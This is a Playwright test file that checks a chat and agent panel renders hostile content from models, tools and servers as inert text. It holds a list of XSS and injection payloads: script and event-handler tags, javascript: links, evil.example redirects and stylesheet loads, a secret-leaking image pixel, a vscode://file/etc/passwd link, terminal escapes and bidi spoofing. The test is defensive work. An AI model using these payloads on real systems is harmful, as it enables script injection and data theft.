// Whatever a model, a tool or a server says: nothing runs, nothing is fetched, nothing acts by itself.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { launch, Panel } from './browser';
import { BASH, call, done, hint, notice, play, start, text, turn } from './story';

let browser: Browser;
before(async () => void (browser = await launch()));
after(() => browser.close());

const ALERT = 'alert(document.domain)';
const ATTACKS = [
  `<script>${ALERT}</script>`,
  `<img src=x onerror=${ALERT}>`,
  `<svg onload=${ALERT}><script>${ALERT}</script></svg>`,
  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<a href="javascript:${ALERT}">x</a>`,
  `<details open ontoggle=${ALERT}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ALERT}>`,
  `<form action="javascript:${ALERT}"><button>x</button></form>`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css);</style>',
  `[x](javascript:${ALERT})`,
  `[x](JaVaScRiPt&#58;${ALERT})`,
  `[x](java\nscript:${ALERT})`,
  `[x](&#x6A;avascript:${ALERT})`,
  `<javascript:${ALERT}>`,
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](https://evil.example/pixel.png?secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](javascript:alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | b |',
  '\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b2J',
  'invoice\u202egnp.exe and \u2066\u2067 more\u200f',
  `${'>'.repeat(500)} deep`,
  `${'['.repeat(2000)}x${']'.repeat(2000)}`,
  `${'*a '.repeat(5000)}`,
  `${'- '.repeat(300)}deep list`,
  `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n${`|${'x|'.repeat(200)}\n`.repeat(100)}`,
  `${'a'.repeat(200_000)}`,
  '<!--',
  '<![CDATA[',
  '&#0;&#xD800;&amp;lt;script&gt;',
  '\ud800 half a letter',
];

async function isHarmless(panel: Panel, evil = ''): Promise<void> {
  const found = await panel.tab.evaluate(() => ({
    elements: [
      ...document.querySelectorAll(
        '#root script, iframe, object, embed, base, form:not(.question), #root link, #root style, #root meta, #root svg:not(.meter)',
      ),
    ].map(({ tagName }) => tagName),
    handlers: [...document.querySelectorAll('#root *')].flatMap(({ attributes }) =>
      [...attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
    ),
    addresses: [...document.querySelectorAll('#root [href], #root [src], #root [action], #root [srcdoc]')].map((one) =>
      one.outerHTML.slice(0, 100),
    ),
    signs: /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(
      document.querySelector('.transcript')?.textContent ?? '',
    ),
    wide: document.documentElement.scrollWidth > window.innerWidth,
  }));
  assert.deepEqual(found, { elements: [], handlers: [], addresses: [], signs: false, wide: false }, evil.slice(0, 80));
  assert.deepEqual([panel.troubles, panel.requests], [[], []]);
}

test('hostile Markdown is words, streamed letter by letter or whole', { timeout: 120_000 }, async () => {
  const panel = await Panel.open(browser);
  for (const [at, attack] of ATTACKS.entries()) {
    const pieces = attack.length > 3000 ? [attack] : (attack.match(/[\s\S]{1,7}/g) ?? []);
    await panel.start(play(start('q'), ...turn(pieces.map(text), `t${at}`)));
    await isHarmless(panel);
    await panel.act(...turn([done()], `t${at}`, 9000));
    await isHarmless(panel);
  }
  await panel.start(play(start('q'), ...turn([...ATTACKS.slice(0, 30).map((one) => text(`${one}\n\n`)), done()])));
  await isHarmless(panel);
  for (const link of await panel.tab.locator('a').all()) await link.click({ timeout: 1000 });
  assert.deepEqual([...new Set((await panel.sent('link')).map(({ href }) => new URL(href).protocol))], ['https:']);
  await isHarmless(panel);
  await panel.close();
});

test(
  'names, arguments, results, hints, titles and questions of strangers are words',
  { timeout: 120_000 },
  async () => {
    const panel = await Panel.open(browser);
    for (const evil of ATTACKS.filter((one) => one.length < 3000)) {
      const asked = {
        ...BASH,
        tool: evil,
        label: evil,
        server: evil,
        params: { [evil]: evil, list: [evil] },
        reason: evil,
        definitionChanged: evil,
      };
      const questions = [
        { id: 'q', question: evil, header: evil, multiple: false, options: [{ label: evil, description: evil }] },
      ];
      await panel.start(
        play(
          start(evil, { picks: [evil], attachments: [evil] }),
          ...turn([
            { kind: 'thinking', text: evil },
            call('c1', 'failed', {
              tool: evil,
              label: evil,
              server: evil,
              params: { [evil]: evil },
              result: evil,
              isError: true,
            }),
            call('c2', 'running', { progress: evil }),
            { kind: 'todo', items: [{ content: evil, status: 'pending' }] },
            notice(evil, 'error'),
          ]),
        ),
        {
          asks: [
            { kind: 'permission', ask: asked },
            { kind: 'question', ask: { requestId: 'q', title: evil, questions } },
          ],
          ...{
            hints: [{ ...hint('x', 0.5, evil), label: evil, server: evil }],
            model: evil,
            server: { state: 'failed', reason: evil },
          },
          chips: [{ id: '1', kind: 'file', name: evil, preview: evil }],
          editing: { turnId: evil, item: 1, files: 1, takeBack: true, missing: [evil], earlier: evil },
          queue: [{ id: '1', text: evil, picks: [evil], attachments: [evil] }],
        },
        'typed',
        [
          {
            ...{ path: evil, status: 'modified', added: 1, removed: 1, turns: [evil], blocked: evil },
            hunks: [{ id: evil, oldStart: 1, oldLines: 1, newStart: 1, newLines: 1, lines: [`+${evil}`], cut: 0 }],
          },
        ],
      );
      for (const row of await panel.tab.locator('.call .row, .changed-file > .icon[aria-expanded]').all()) await row.click();
      await isHarmless(panel);
    }
    await panel.close();
  },
);

test('the page’s policy refuses scripts, styles, frames and requests that are not its own', async () => {
  const panel = await Panel.open(browser);
  await panel.start();
  const ran = await panel.tab.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    const image = new Image();
    const loaded = new Promise((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
    });
    image.src = 'https://evil.example/x.png';
    const fetched = await fetch('https://evil.example/').then(
      () => 'fetched',
      () => 'refused',
    );
    return [(window as unknown as { ran?: boolean }).ran, await loaded, fetched];
  });
  assert.deepEqual(ran, [undefined, 'refused', 'refused']);
  assert.deepEqual(panel.requests, []);
  await panel.close();
});
